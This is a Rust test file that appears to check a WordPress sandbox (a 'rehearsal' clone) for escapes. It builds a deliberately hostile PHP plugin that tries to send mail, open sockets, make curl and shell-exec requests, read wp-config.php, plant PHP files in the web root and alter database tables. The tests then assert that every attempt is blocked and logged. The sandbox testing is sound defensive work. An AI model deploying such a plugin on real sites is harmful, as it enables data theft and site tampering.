//! A site whose own code reaches for everything: nothing of it arrives anywhere, and each is
//! told.

use super::lab::{EPOCH, Live, site};
use crate::site::soon;
use pressroom_agent::protocol::Boot;
use pressroom_wordpress::rehearsal::{AttemptKind, RehearsalLog, RehearsalOptions};
use std::{
    fs,
    net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
};

/// Somebody who counts who comes.
struct Catcher {
    address: SocketAddr,
    caught: Arc<AtomicU64>,
}

impl Catcher {
    fn at(address: Ipv4Addr) -> Self {
        let listener = TcpListener::bind((address, 0)).unwrap();
        let address = listener.local_addr().unwrap();
        let caught = Arc::new(AtomicU64::new(0));
        let count = Arc::clone(&caught);
        thread::spawn(move || {
            for _ in listener.incoming() {
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { address, caught }
    }

    fn caught(&self) -> u64 {
        self.caught.load(Ordering::SeqCst)
    }
}

/// An address of this machine that is not its own alone.
fn outer_address() -> Ipv4Addr {
    // Nothing is sent for that.
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    match socket
        .connect("203.0.113.1:9")
        .and_then(|()| socket.local_addr())
    {
        Ok(SocketAddr::V4(address)) => *address.ip(),
        _ => Ipv4Addr::LOCALHOST,
    }
}

/// The plugin: it does everything when it is loaded, and prints what came of it.
fn plugin(live: &Live, catchers: &[Catcher; 2]) -> String {
    let [near, far] = [catchers[0].address, catchers[1].address];
    let root = live.home.join("public_html").display().to_string();
    let home = live.home.display().to_string();
    let database = &live.site.database;
    let (name, user) = (&database.name, &database.user);
    let password = database.password.replace('\\', "\\\\").replace('\'', "\\'");
    let socket = database.socket.display();
    format!(
        r#"
if ( PHP_SAPI !== 'cli' && ! isset( $_GET['reach'] ) ) {{ return; }}
add_action( 'wp_loaded', function () {{
	global $wpdb;
	$did = array();
	$try = function ( $name, $act ) use ( &$did ) {{
		try {{ $did[ $name ] = $act(); }} catch ( Throwable $why ) {{ $did[ $name ] = get_class( $why ); }}
	}};
	$try( 'mail', function () {{ return mail( 'first@example.test', 'a', 'b' ); }} );
	$try( 'wp_mail', function () {{ return wp_mail( 'second@example.test', 'a', 'b' ); }} );
	foreach ( array( '{near}', '{far}' ) as $at ) {{
		list( $host, $port ) = explode( ':', $at );
		$try( "fsockopen $at", function () use ( $host, $port ) {{ return (bool) @fsockopen( $host, $port, $a, $b, 2 ); }} );
		$try( "stream $at", function () use ( $at ) {{ return (bool) @stream_socket_client( "tcp://$at", $a, $b, 2 ); }} );
		$try( "socket $at", function () use ( $host, $port ) {{ $s = socket_create( AF_INET, SOCK_STREAM, SOL_TCP ); return @socket_connect( $s, $host, (int) $port ); }} );
		$try( "curl $at", function () use ( $at ) {{ $c = curl_init( "http://$at/curl?secret=1" ); curl_setopt( $c, CURLOPT_RETURNTRANSFER, true ); curl_setopt( $c, CURLOPT_TIMEOUT, 2 ); return curl_exec( $c ); }} );
		$try( "multi $at", function () use ( $at ) {{ $m = curl_multi_init(); $c = curl_init( "http://$at/multi" ); curl_setopt( $c, CURLOPT_TIMEOUT, 2 ); curl_multi_add_handle( $m, $c ); $n = 0; do {{ $s = curl_multi_exec( $m, $on ); usleep( 1000 ); }} while ( $on && CURLM_OK === $s && $n++ < 2000 ); return $s; }} );
		$try( "get $at", function () use ( $at ) {{ return @file_get_contents( "http://$at/streams" ); }} );
		$try( "wp $at", function () use ( $at ) {{ return is_wp_error( wp_remote_post( "http://$at/wp", array( 'body' => 'x' ) ) ); }} );
		$try( "exec $at", function () use ( $at ) {{ return exec( "curl -m 2 http://$at/exec" ); }} );
		$try( "shell $at", function () use ( $at ) {{ return `curl -m 2 http://$at/shell`; }} );
		$try( "proc $at", function () use ( $at ) {{ return is_resource( proc_open( array( 'curl', '-m', '2', "http://$at" ), array(), $pipes ) ); }} );
	}}
	$try( 'write', function () {{ return @file_put_contents( '{root}/wp-content/planted.php', '<?php' ); }} );
	$try( 'write up', function () {{ return @file_put_contents( __DIR__ . '/../../../../../../../public_html/planted.php', '<?php' ); }} );
	$try( 'write tmp', function () {{ return @file_put_contents( '{home}/planted', 'x' ); }} );
	$try( 'read', function () {{ return @file_get_contents( '{root}/wp-config.php' ); }} );
	$try( 'link', function () {{ return @symlink( '{root}', __DIR__ . '/live' ) && @file_put_contents( __DIR__ . '/live/planted.php', 'x' ); }} );
	$wpdb->suppress_errors();
	$try( 'table', function () use ( $wpdb ) {{ return $wpdb->query( "UPDATE wp_options SET option_value = 'broken' WHERE option_name = 'blogname'" ); }} );
	$try( 'insert', function () use ( $wpdb ) {{ return $wpdb->query( "INSERT INTO `{name}`.`wp_options` (option_name, option_value) VALUES ('planted', '1')" ); }} );
	$try( 'comment', function () use ( $wpdb ) {{ return $wpdb->query( "DELETE /*! FROM wp_posts */" ); }} );
	$raw = function ( $host, $socket ) {{
		mysqli_report( MYSQLI_REPORT_OFF );
		$db = @mysqli_connect( $host, '{user}', '{password}', '{name}', 0, $socket );
		return $db ? $db->query( "UPDATE wp_options SET option_value = 'broken' WHERE option_name = 'blogname'" ) : 'closed';
	}};
	$try( 'raw', function () use ( $raw ) {{ return $raw( 'localhost', null ); }} );
	$try( 'raw path', function () use ( $raw ) {{ return $raw( 'localhost', '{socket}' ); }} );
	$try( 'prepared', function () {{
		$pdo = new PDO( 'mysql:host=localhost;dbname={name}', '{user}', '{password}', array( PDO::ATTR_EMULATE_PREPARES => false ) );
		return $pdo->prepare( "UPDATE wp_options SET option_value = ? WHERE option_name = 'blogname'" )->execute( array( 'broken' ) );
	}} );
	if ( PHP_SAPI !== 'cli' ) {{ echo 'DID:', json_encode( $did ); exit; }}
	file_put_contents( WP_CONTENT_DIR . '/did.json', json_encode( $did ) );
}} );
"#
    )
}

async fn reach(namespaces: bool, landlock: bool) {
    let live = Live::of(site("")).await;
    let catchers = [
        Catcher::at(Ipv4Addr::LOCALHOST),
        Catcher::at(outer_address()),
    ];
    live.site
        .plugin("reaching", "1.0", &plugin(&live, &catchers))
        .unwrap();
    live.site
        .database
        .sql("UPDATE wp_options SET option_value = 'a:1:{i:0;s:21:\"reaching/reaching.php\";}' WHERE option_name = 'active_plugins'")
        .unwrap();
    super::lab::own(&live.place, &live.home);
    let before = live.state().await;
    let clone = live
        .make_with(RehearsalOptions {
            namespaces,
            landlock,
            ..RehearsalOptions::default()
        })
        .await;
    let page = live.get(&clone, "/?reach=1").await;
    let text = String::from_utf8_lossy(&page.body).into_owned();
    let did = text.split_once("DID:").map(|(_, did)| did.to_owned());
    let did = did.unwrap_or_else(|| panic!("{}: {text}", page.status));
    // The same by the bridge, which is another start of PHP.
    let report = soon(
        live.session
            .run_cron(EPOCH, Boot::new(&clone.root, "php"), 0),
    )
    .await;
    report.unwrap();
    let path = format!("{}/wp-content/did.json", clone.root);
    let by_bridge = fs::read_to_string(live.home.join(path)).unwrap();

    let after = live.state().await;
    let log = soon(live.session.rehearsal_log(&clone.handle))
        .await
        .unwrap();
    if namespaces {
        assert_eq!(after, before, "{did}\n{by_bridge}");
    } else {
        // The server's own socket, with the password written down, is named.
        let named = clone
            .unblocked
            .iter()
            .any(|told| told.contains("past the rehearsal"));
        assert!(named, "{clone:?}");
        let mut after = after;
        let mut before = before;
        for state in [&mut after, &mut before] {
            state.tables.remove("wp_options");
        }
        assert_eq!(after, before, "{did}");
        assert!(!did.contains("\"table\":1"), "{did}");
    }
    for (catcher, what) in catchers.iter().zip(["near", "far"]) {
        assert_eq!(catcher.caught(), 0, "{what}: {did}\n{by_bridge}");
    }
    for planted in [
        "public_html/planted.php",
        "planted",
        "public_html/wp-content/planted.php",
    ] {
        assert!(!live.home.join(planted).exists(), "{planted}: {did}");
    }
    assert!(did.contains("\"read\":false"), "{did}");
    named_each(&log, &catchers, &live);
    if !landlock {
        let named = clone
            .unblocked
            .iter()
            .any(|told| told.contains("open_basedir"));
        assert!(named, "{clone:?}");
    }
    assert_eq!(
        clone.unblocked.is_empty(),
        namespaces && landlock,
        "{clone:?}"
    );
    soon(live.session.drop_rehearsal(EPOCH, &clone.handle))
        .await
        .unwrap();
    assert_eq!(live.left(), [""; 0]);
}

fn named_each(log: &RehearsalLog, catchers: &[Catcher; 2], live: &Live) {
    let near = catchers[0].address.to_string();
    let root = live.home.join("public_html").display().to_string();
    for (kind, part) in [
        (AttemptKind::Mail, "first@example.test".to_owned()),
        (AttemptKind::Mail, "second@example.test".to_owned()),
        (AttemptKind::Socket, near.clone()),
        (AttemptKind::Socket, format!("tcp://{near}")),
        (AttemptKind::Http, format!("http://{near}/curl")),
        (AttemptKind::Http, format!("http://{near}/streams")),
        (AttemptKind::Http, format!("http://{near}/wp")),
        (AttemptKind::Command, "curl".to_owned()),
        (AttemptKind::File, format!("{root}/wp-content/planted.php")),
        (AttemptKind::Table, "UPDATE wp_options".to_owned()),
        (AttemptKind::Table, "INSERT wp_options".to_owned()),
        (AttemptKind::Table, "DELETE wp_posts".to_owned()),
    ] {
        let found = log
            .attempts
            .iter()
            .any(|one| one.kind == kind && one.what == part && one.times > 0);
        assert!(found, "{kind:?} {part}: {:#?}", log.attempts);
    }
    let told = format!("{:?}", log.attempts);
    assert!(!told.contains("secret"), "{told}");
}

#[tokio::test]
async fn behind_all_walls() {
    reach(true, true).await;
}

#[tokio::test]
async fn without_a_network_of_its_own() {
    reach(false, true).await;
}

#[tokio::test]
async fn without_landlock() {
    reach(true, false).await;
}

#[tokio::test]
async fn by_the_rules_of_php_alone() {
    reach(false, false).await;
}
